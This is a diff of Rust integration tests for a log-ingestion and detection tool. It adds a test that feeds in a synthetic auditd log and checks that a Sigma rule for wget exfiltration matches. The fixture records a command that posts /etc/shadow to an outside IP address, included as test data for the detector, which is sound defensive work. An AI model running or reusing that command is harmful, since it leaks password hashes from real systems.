@@ -961,7 +961,9 @@ fn ingest_says_what_went_wrong_and_exits_accordingly() {
     assert!(!out.status.success());
     let err = stderr(&out);
     assert!(
-        err.contains("(standard input): not an EVTX, JSON, syslog or web server log file"),
+        err.contains(
+            "(standard input): not an EVTX, JSON, syslog, Linux audit or web server log file"
+        ),
         "{err}"
     );
 
@@ -1716,6 +1718,50 @@ fn web_access_logs_are_ingested_as_webserver_events_and_matched() {
         3,
         "both logs name the client alike: {client:?}"
     );
+}
+
+/// auditd's audit.log sent with `vigil ingest`: each record stored as an event at its own
+/// time, searchable by its fields, and matched against SigmaHQ's auditd rules though the
+/// service declares no logsource.
+#[test]
+fn auditd_logs_are_ingested_record_by_record_and_matched() {
+    let auditd =
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/sigma/rules/linux/auditd");
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    let token = admin_token(&data, "admin", "alice");
+    let server = Server::start_with(&data, &["--rules", auditd.to_str().unwrap()]);
+    let cli = |args: &[&str]| server.cli(&token, args);
+    let log = dir.path().join("audit.log");
+    std::fs::write(
+        &log,
+        "type=SYSCALL msg=audit(1700000000.100:100): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=811 pid=812 auid=1000 uid=1000 euid=1000 comm=\"wget\" exe=\"/usr/bin/wget\" key=\"exec\"\n\
+         type=EXECVE msg=audit(1700000000.100:100): argc=3 a0=\"wget\" a1=\"--post-file=/etc/shadow\" a2=\"http://203.0.113.9/u\"\n\
+         type=EOE msg=audit(1700000000.100:100): \n",
+    )
+    .unwrap();
+    let summary = json_of(cli(&[
+        "ingest",
+        log.to_str().unwrap(),
+        "--service",
+        "web-1",
+        "--wait",
+        "--json",
+    ]));
+    assert_eq!(
+        (&summary["stored"], &summary["detections"]),
+        (&json!(3), &json!(1)),
+        "{summary}"
+    );
+    let detections = json_of(cli(&["detections", "--json"]));
+    assert_eq!(
+        detections["items"][0]["rule_title"], "Data Exfiltration with Wget",
+        "{detections}"
+    );
+    let found = json_lines(cli(&["search", "type:EXECVE AND a0:wget", "--json"]));
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0]["event"]["serial"], 100);
+    assert_eq!(found[0]["time"], "2023-11-14T22:13:20.100Z", "{found:?}");
 }
 
 /// An application's own log, in no format Vigil knows (the real HDFS sample of
